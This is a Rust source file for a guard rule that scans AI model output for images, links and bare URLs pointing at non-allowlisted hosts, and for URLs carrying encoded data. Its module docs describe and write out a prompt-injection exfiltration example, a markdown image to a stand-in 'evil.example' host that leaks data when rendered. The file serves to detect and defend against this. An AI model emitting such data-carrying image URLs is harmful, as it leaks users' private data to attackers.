//! `exfiltration`: images and links in model output that point at hosts outside the
//! allowlist. A markdown image (or HTML `<img>`) is fetched by the client the moment the
//! answer renders, with no click, so an injected `![](https://evil.example/?q=<data>)`
//! leaks whatever the model put in the URL: images are the dangerous kind.
//!
//! References found in the original text:
//! - `image`: markdown images `![alt](url)`, reference-style images `![alt][id]` (the URL
//!   from their `[id]: url` definition), HTML `<img src=…>`;
//! - `link`: markdown links `[text](url)`, reference definitions used by links,
//!   HTML `<a href=…>`;
//! - `url`: bare `http://`, `https://`, `ftp://` and protocol-relative `//host.name`
//!   URLs.
//!
//! A reference is outside when its host is neither listed in `allowed_hosts` (exact,
//! case-insensitive) nor covered by a `*.suffix` entry (any subdomain of `suffix`; list
//! the apex itself separately). Relative links, `mailto:` and `data:` URLs have no host
//! and are not reported.
//!
//! A URL *carries data* when its path, query or fragment holds a run of at least
//! `max_data_len` (default 32) base64/hex-like characters (`A-Z a-z 0-9 + =`, unbroken by
//! `/ - _ . & ?`), or at least `max_data_len` characters of percent-encoding (`%XX`).
//! With `data_only: true` the rule reports only outside references that carry data,
//! whatever their kind: a link that smuggles an encoded payload is exfiltration even
//! though it needs a click. Allowlisted hosts are trusted, data or not.
//!
//! `kinds` selects which references a rule reports, so one policy can deny images and
//! data-carrying URLs and send plain outside links to review.

use regex::Regex;
use serde::{Deserialize, Serialize};

use super::{Check, CompileCtx, Hit, Input};
use crate::decision::{Category, Severity};
use crate::error::RuleError;

/// Configuration of an `exfiltration` rule.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Config {
    /// Hosts the output may reference: `example.com` (exactly) or `*.example.com`
    /// (any subdomain).
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub allowed_hosts: Vec<String>,
    /// Which references the rule reports (default: all kinds).
    #[serde(default = "all_kinds")]
    pub kinds: Vec<LinkKind>,
    /// Report only references that carry data (see the module docs).
    #[serde(default)]
    pub data_only: bool,
    /// Length of an encoded run in a URL that counts as carried data (default 32).
    #[serde(default = "default_max_data_len")]
    pub max_data_len: usize,
}

fn all_kinds() -> Vec<LinkKind> {
    vec![LinkKind::Image, LinkKind::Link, LinkKind::Url]
}

fn default_max_data_len() -> usize {
    32
}

/// A kind of reference in model output.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum LinkKind {
    /// Fetched when the answer renders: markdown and HTML images.
    Image,
    /// Followed when clicked: markdown links, reference links, HTML anchors.
    Link,
    /// A bare URL in the text.
    Url,
}

impl LinkKind {
    fn as_str(self) -> &'static str {
        match self {
            LinkKind::Image => "image",
            LinkKind::Link => "link",
            LinkKind::Url => "url",
        }
    }
}

/// Findings kept per rule: a wall of links needs a few findings, not all.
const MAX_HITS: usize = 32;

/// A compiled `exfiltration` rule.
#[derive(Debug)]
pub(crate) struct Exfiltration {
    exact: Vec<String>,
    suffixes: Vec<String>,
    kinds: Vec<LinkKind>,
    data_only: bool,
    max_data_len: usize,
    re: &'static Patterns,
}

/// The link patterns, compiled once per process and shared by every rule.
static PATTERNS: std::sync::OnceLock<Result<Patterns, String>> = std::sync::OnceLock::new();

#[derive(Debug)]
struct Patterns {
    inline: Regex,
    definition: Regex,
    image_ref: Regex,
    html: Regex,
    bare: Regex,
}

impl Patterns {
    fn new() -> Result<Patterns, regex::Error> {
        Ok(Patterns {
            inline: Regex::new(r#"(!?)\[[^\]\n]*\]\(\s*<?([^\s)>]+)"#)?,
            definition: Regex::new(r"(?m)^[ \t]{0,3}\[([^\]\n]+)\]:[ \t]*<?([^\s>]+)")?,
            image_ref: Regex::new(r"!\[([^\]\n]*)\](?:\[([^\]\n]*)\])?")?,
            html: Regex::new(
                r#"(?i)<(img|a|iframe|script|source|video|audio|embed)\b[^>]*?\b(?:src|href|srcset)\s*=\s*["']?([^"'\s>]+)"#,
            )?,
            // Protocol-relative URLs only with a dotted host, so `//TODO` in code is not one.
            bare: Regex::new(
                r#"(?i)(?:\b(?:https?|ftp)://|(?:^|[\s(])//[a-z0-9-]+(?:\.[a-z0-9-]+)+)[^\s<>()\[\]"'`]*"#,
            )?,
        })
    }
}

/// One reference found in the text.
#[derive(Debug)]
struct Reference<'t> {
    kind: LinkKind,
    url: &'t str,
    start: usize,
    end: usize,
}

impl Exfiltration {
    pub(crate) fn compile(
        config: &Config,
        _cx: &mut CompileCtx<'_>,
    ) -> Result<Exfiltration, String> {
        let mut exact = Vec::new();
        let mut suffixes = Vec::new();
        for h in &config.allowed_hosts {
            let h = h.trim().trim_end_matches('.').to_ascii_lowercase();
            match h.strip_prefix("*.") {
                Some(s) if !s.is_empty() && !s.contains('*') => suffixes.push(format!(".{s}")),
                None if !h.is_empty() && !h.contains('*') && !h.contains('/') => exact.push(h),
                _ => {
                    return Err(format!(
                        "bad allowed host `{h}`: use `example.com` or `*.example.com`"
                    ));
                }
            }
        }
        if config.kinds.is_empty() {
            return Err("`kinds` must name at least one of image, link, url".to_owned());
        }
        if config.max_data_len < 8 {
            return Err(format!(
                "`max_data_len` must be at least 8, got `{}`",
                config.max_data_len
            ));
        }
        let re = PATTERNS
            .get_or_init(|| Patterns::new().map_err(|e| format!("cannot build link patterns: {e}")))
            .as_ref()
            .map_err(Clone::clone)?;
        Ok(Exfiltration {
            exact,
            suffixes,
            kinds: config.kinds.clone(),
            data_only: config.data_only,
            max_data_len: config.max_data_len,
            re,
        })
    }

    fn allowed(&self, host: &str) -> bool {
        self.exact.iter().any(|h| h == host)
            || self.suffixes.iter().any(|s| host.ends_with(s.as_str()))
    }

    fn references<'t>(&self, text: &'t str) -> Vec<Reference<'t>> {
        let mut refs: Vec<Reference<'t>> = Vec::new();
        for c in self.re.inline.captures_iter(text) {
            let (Some(all), Some(url)) = (c.get(0), c.get(2)) else {
                continue;
            };
            let image = c.get(1).is_some_and(|m| !m.is_empty());
            let kind = if image {
                LinkKind::Image
            } else {
                LinkKind::Link
            };
            refs.push(Reference {
                kind,
                url: url.as_str(),
                start: all.start(),
                end: all.end(),
            });
        }
        let image_ids: Vec<String> = self
            .re
            .image_ref
            .captures_iter(text)
            .filter_map(|c| c.get(2).filter(|m| !m.is_empty()).or_else(|| c.get(1)))
            .map(|m| m.as_str().trim().to_lowercase())
            .collect();
        for c in self.re.definition.captures_iter(text) {
            let (Some(all), Some(id), Some(url)) = (c.get(0), c.get(1), c.get(2)) else {
                continue;
            };
            let image = image_ids.contains(&id.as_str().trim().to_lowercase());
            let kind = if image {
                LinkKind::Image
            } else {
                LinkKind::Link
            };
            refs.push(Reference {
                kind,
                url: url.as_str(),
                start: all.start(),
                end: all.end(),
            });
        }
        for c in self.re.html.captures_iter(text) {
            let (Some(all), Some(tag), Some(url)) = (c.get(0), c.get(1), c.get(2)) else {
                continue;
            };
            let kind = if tag.as_str().eq_ignore_ascii_case("a") {
                LinkKind::Link
            } else {
                LinkKind::Image
            };
            refs.push(Reference {
                kind,
                url: url.as_str(),
                start: all.start(),
                end: all.end(),
            });
        }
        let mut covered: Vec<(usize, usize)> = refs.iter().map(|r| (r.start, r.end)).collect();
        covered.sort_unstable();
        // Widest end of the spans starting at or before each one, for containment tests.
        let mut reach = 0;
        let reaches: Vec<usize> = covered
            .iter()
            .map(|(_, e)| {
                reach = reach.max(*e);
                reach
            })
            .collect();
        for m in self.re.bare.find_iter(text) {
            let lead = m.as_str().len()
                - m.as_str()
                    .trim_start_matches([' ', '\t', '\n', '\r', '('])
                    .len();
            let (start, end) = (m.start() + lead, m.end());
            let k = covered.partition_point(|(s, _)| *s <= start);
            if k > 0 && reaches.get(k - 1).is_some_and(|r| end <= *r) {
                continue;
            }
            let url = text
                .get(start..end)
                .unwrap_or_default()
                .trim_end_matches(['.', ',', ';', ':', '!', '?']);
            refs.push(Reference {
                kind: LinkKind::Url,
                url,
                start,
                end: start + url.len(),
            });
        }
        refs
    }

    /// Length of the longest encoded-looking run in the URL after its host.
    fn data_len(&self, rest: &str) -> usize {
        let mut longest = 0;
        let mut run = 0;
        for c in rest.chars() {
            if c.is_ascii_alphanumeric() || c == '+' || c == '=' {
                run += 1;
                longest = longest.max(run);
            } else {
                run = 0;
            }
        }
        // Percent-encoding: count the characters of `%XX` sequences in one stretch.
        let bytes = rest.as_bytes();
        let (mut pct, mut best_pct, mut i) = (0usize, 0usize, 0usize);
        while i < bytes.len() {
            let is_pct = bytes.get(i) == Some(&b'%')
                && bytes.get(i + 1).is_some_and(u8::is_ascii_hexdigit)
                && bytes.get(i + 2).is_some_and(u8::is_ascii_hexdigit);
            if is_pct {
                pct += 3;
                i += 3;
            } else {
                if bytes
                    .get(i)
                    .is_some_and(|b| matches!(b, b'/' | b'?' | b'&' | b'#'))
                {
                    pct = 0;
                }
                i += 1;
            }
            best_pct = best_pct.max(pct);
        }
        longest.max(best_pct)
    }
}

/// Splits a URL into its lowercase host and what follows it. `None` without a host.
fn split_host(url: &str) -> Option<(String, &str)> {
    let after = match url.find("://") {
        Some(i)
            if url.get(..i).is_some_and(|s| {
                s.chars()
                    .all(|c| c.is_ascii_alphanumeric() || "+.-".contains(c))
            }) =>
        {
            url.get(i + 3..)?
        }
        Some(_) => return None,
        None => url.strip_prefix("//")?,
    };
    let end = after.find(['/', '?', '#', '\\']).unwrap_or(after.len());
    let authority = after.get(..end)?;
    let rest = after.get(end..)?;
    let hostport = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
    let host = if let Some(v6) = hostport.strip_prefix('[') {
        v6.split(']').next().unwrap_or_default()
    } else {
        hostport.split(':').next().unwrap_or_default()
    };
    let host = host.trim_end_matches('.').to_ascii_lowercase();
    (!host.is_empty()).then_some((host, rest))
}

impl Check for Exfiltration {
    fn category(&self) -> Category {
        Category::Exfiltration
    }

    fn severity(&self) -> Severity {
        if self.kinds.contains(&LinkKind::Image) || self.data_only {
            Severity::High
        } else {
            Severity::Medium
        }
    }

    fn scan(&self, input: &Input<'_>, hits: &mut Vec<Hit>) -> Result<(), RuleError> {
        // Every URL with a host has `//`: most answers have none and cost nothing more.
        if !input.text.contains("//") {
            return Ok(());
        }
        for r in self.references(input.text) {
            let Some((host, rest)) = split_host(r.url) else {
                continue;
            };
            if self.allowed(&host) {
                continue;
            }
            let data = self.data_len(rest);
            let carries = data >= self.max_data_len;
            if self.data_only && !carries {
                continue;
            }
            if !self.data_only && !self.kinds.contains(&r.kind) {
                continue;
            }
            let reason = if carries {
                format!(
                    "{} to outside host `{host}` carries {data} characters of encoded data",
                    r.kind.as_str()
                )
            } else {
                format!("{} to outside host `{host}`", r.kind.as_str())
            };
            hits.push(Hit::new(r.start, r.end, reason));
            if hits.len() >= MAX_HITS {
                break;
            }
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hosts_are_split_from_urls() {
        let h = |u: &str| split_host(u).map(|(h, _)| h);
        assert_eq!(
            h("https://User@Evil.Example:8080/x?y").as_deref(),
            Some("evil.example")
        );
        assert_eq!(
            h("//cdn.example.com/a.png").as_deref(),
            Some("cdn.example.com")
        );
        assert_eq!(h("http://[::1]:80/").as_deref(), Some("::1"));
        assert_eq!(h("/relative/path"), None);
        assert_eq!(h("mailto:a@b.c"), None);
        assert_eq!(h("data:image/png;base64,AAAA"), None);
    }
}
